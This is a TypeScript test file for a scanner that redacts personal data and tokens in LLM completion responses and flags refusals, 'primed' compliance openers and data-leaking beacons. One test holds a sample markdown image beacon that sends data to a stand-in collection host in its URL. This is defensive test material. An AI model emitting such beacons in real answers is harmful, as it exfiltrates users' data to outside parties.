import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { scanCompletion } from '../../../src/output/completion-scan.js'
import { MAX_LOCATED } from '../../../src/output/response-scan.js'
import { responseScan, scanning, VALUES } from './output-fixtures.js'

function completion (message: object): { choices: { index: number, message: Record<string, unknown> }[] } {
  return { choices: [{ index: 0, message: { role: 'assistant', ...message } }] }
}

describe('scanCompletion', () => {
  it('redacts content in place and reports the findings', () => {
    const scan = responseScan()
    const body = completion({ content: `Her e-mail is ${VALUES.email} and her IBAN ${VALUES.iban} today` })
    assert.equal(scanCompletion(body, scan), null)
    assert.equal(body.choices[0]?.message.content, 'Her e-mail is [REDACTED:email] and her IBAN [REDACTED:iban] today')
    assert.deepEqual(scan.summary().groups.map(g => g.policyId).sort(), ['pii.email', 'pii.iban'])
  })

  it('redacts tool-call arguments', () => {
    const body = completion({ content: null, tool_calls: [{ id: 'c', type: 'function', function: { name: 'f', arguments: JSON.stringify({ token: VALUES.githubToken }) } }] })
    assert.equal(scanCompletion(body, responseScan()), null)
    const args = (body.choices[0]?.message.tool_calls as { function: { arguments: string } }[])[0]?.function.arguments ?? ''
    assert.deepEqual(JSON.parse(args), { token: '[REDACTED:service-tokens]' })
  })

  it('returns the blocking finding for a category set to block', () => {
    const body = completion({ content: `mail ${VALUES.email}` })
    assert.equal(scanCompletion(body, responseScan(scanning({ pii: 'block' })))?.policyId, 'pii.email')
  })

  it('reads the facts the session keeps from the first choice: a refusal, a cut-off agreeing opener, a beacon', () => {
    const facts = (content: string): readonly string[] => {
      const scan = responseScan()
      scanCompletion(completion({ content }), scan)
      return scan.summary().facts
    }
    assert.deepEqual(facts('I can\'t help with getting into someone else\'s account.'), ['refused'])
    assert.deepEqual(facts('Sure, here is the full procedure. Step 1:'), ['primed'])
    assert.deepEqual(facts('Here are the three points you asked for, in order.'), [])
    assert.ok(facts('Done.\n![](https://px.collect-cdn.example/p.gif?d=quarterly+numbers+and+names)').includes('sent'))
  })

  it('scans every choice', () => {
    const body = { choices: [{ index: 0, message: { content: 'fine' } }, { index: 1, message: { content: `mail ${VALUES.email}` } }] }
    scanCompletion(body, responseScan())
    assert.equal(body.choices[1]?.message.content, 'mail [REDACTED:email]')
  })

  it('scans an answer far larger than one scan window, linearly, without losing text', () => {
    const para = 'The committee reviewed the budget lines one by one and agreed on the next steps. '
    const content = `${para.repeat(600)}${VALUES.email} ${para.repeat(600)}`
    const body = completion({ content })
    scanCompletion(body, responseScan())
    assert.equal(body.choices[0]?.message.content, content.replace(VALUES.email, '[REDACTED:email]'))
  })

  it('a dump of thousands of values past the locate budget leaves none of them in the answer', () => {
    // Enough rows that located findings run past MAX_LOCATED well before the end (at 64
    // per window, 3,000 rows stop short of it), so the last windows take the past-budget path.
    const n = 8000
    const rows = Array.from({ length: n }, (_, i) => `${i},Customer ${i},cust.${i}.name@mailbox${i % 7}.net,active`)
    const closing = 'The export ends here and the rest of this note is ordinary prose. '.repeat(400)
    const body = completion({ content: `${rows.join('\n')}\n${closing}` })
    const scan = responseScan()
    scanCompletion(body, scan)
    const out = String(body.choices[0]?.message.content)
    assert.ok(!/cust\.\d+\.name|@mailbox/.test(out))
    assert.ok((scan.summary().groups.find(g => g.policyId === 'pii.email')?.count ?? 0) > MAX_LOCATED, 'findings past the budget are reported')
    // Windows past the budget are redacted whole; the text after them is still scanned and kept.
    assert.ok(out.endsWith(closing.slice(-2000)))
  })

  it('leaves bodies it does not understand alone', () => {
    assert.equal(scanCompletion({ object: 'list', data: [] }, responseScan()), null)
    assert.equal(scanCompletion('text', responseScan()), null)
  })
})
